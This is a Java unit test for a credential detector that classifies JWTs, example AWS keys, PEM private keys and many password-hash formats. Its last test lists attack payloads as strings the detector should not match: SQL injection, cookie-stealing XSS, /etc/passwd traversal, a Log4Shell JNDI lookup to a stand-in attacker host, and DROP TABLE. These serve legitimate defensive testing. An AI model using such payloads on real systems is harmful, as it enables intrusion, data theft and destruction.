package io.periscope.sensitive;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import org.junit.jupiter.api.Test;

class CredentialShapeTest {
    static final String JWT = b64("{\"alg\":\"HS256\",\"typ\":\"JWT\"}") + "." + b64("{\"sub\":\"u1\",\"exp\":1900000000}")
            + ".c2lnbmF0dXJlLWJ5dGVzLXNpZw";

    private static String b64(String s) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(s.getBytes(StandardCharsets.UTF_8));
    }

    @Test
    void aJwtIsACredentialByShapeWithOrWithoutBearer() {
        assertThat(CredentialShape.of(JWT)).isEqualTo(CredentialShape.JWT);
        assertThat(CredentialShape.of("eyJhbGciOiJub3QtanNvbg.eyJ.x")).isNull();
    }

    @Test
    void awsKeysArCredentialsByShape() {
        assertThat(CredentialShape.of("AKIAIOSFODNN7EXAMPLE")).isEqualTo(CredentialShape.AWS_ACCESS_KEY_ID);
        assertThat(CredentialShape.of("wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")).isEqualTo(CredentialShape.AWS_SECRET_KEY);
        // a git commit id is hex: one case only, not a secret key
        assertThat(CredentialShape.of("3f786850e387550fdab836ed7e6dc881de23001b")).isNull();
    }

    @Test
    void pemPrivateKeysAreCredentialsButCertificatesAreNot() {
        assertThat(CredentialShape.of("-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----"))
                .isEqualTo(CredentialShape.PRIVATE_KEY);
        assertThat(CredentialShape.of("-----BEGIN CERTIFICATE-----\nMIIDdzCCAl+gAwIBAgIE\n-----END CERTIFICATE-----")).isNull();
    }

    @Test
    void everyCommonPasswordHashFormatIsACredential() {
        for (String hash : new String[] {
                "$2a$10$N9qo8uLOickgx2ZMRZoMyeIjZAgcfl7p92ldGxad68LJZdL17lhWy",
                "$2b$12$KIXQJ8h3nJX3l8ZBzYpZ2eW9y0vQ9q3o8v1M0qk6QhZ5s3z5Yt3xW",
                "$2y$10$abcdefghijklmnopqrstuu5x8Vd0QwYJ2G7rR3bE6mM1uN9pK4lFa",
                "$argon2id$v=19$m=65536,t=3,p=4$c29tZXNhbHQ$RdescudvJCsgt3ub+b+dWRWJTmaaJObG",
                "$scrypt$ln=16,r=8,p=1$aM15713r3Xsvxbi31lqr1Q$nFNh2CVHVjNldFVKDHDlm4CbdRSCdEBsjjJxD+iCs5E",
                "$pbkdf2-sha256$29000$N2GMUSolhBDCGOOcs1aKkQ$t9NsAqwpTgOGgbVHnCbFwzWz+SjDWe9LEQsnsjUlzYM",
                "pbkdf2_sha256$260000$rAnDoMsAlT$kJ3a1X0oGx1+f4d5Wq6o7i5tHc9u0yZx8P2vB3nN4mE=",
                "pbkdf2:sha256:260000$salt1234$5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8",
                "$5$rounds=5000$usesomesillystri$KqJWpanXZHKq2BOB43TSaYhEWsQ1Lr5QNyPCDH/Tp.6",
                "$6$saltsalt$qFmFH.bQmmtXzyBY0s9v7Oicd2z4XSIecDzlB5KiA2/jctKu9YterLp8wwnSq.qc.eoxqOmSuNp2xS0ktL3nh/"}) {
            assertThat(CredentialShape.of(hash)).as(hash).isEqualTo(CredentialShape.PASSWORD_HASH);
        }
        assertThat(CredentialShape.of("$100.00 and $2b more money to spend")).isNull();
    }

    @Test
    void attackPayloadsHaveNoCredentialShape() {
        for (String attack : new String[] {"' OR '1'='1' -- comment here", "<script>alert(document.cookie)</script>",
                "../../../../etc/passwd%00.png", "${jndi:ldap://attacker.example/a}", "1; DROP TABLE users; --"}) {
            assertThat(CredentialShape.of(attack)).as(attack).isNull();
        }
    }
}
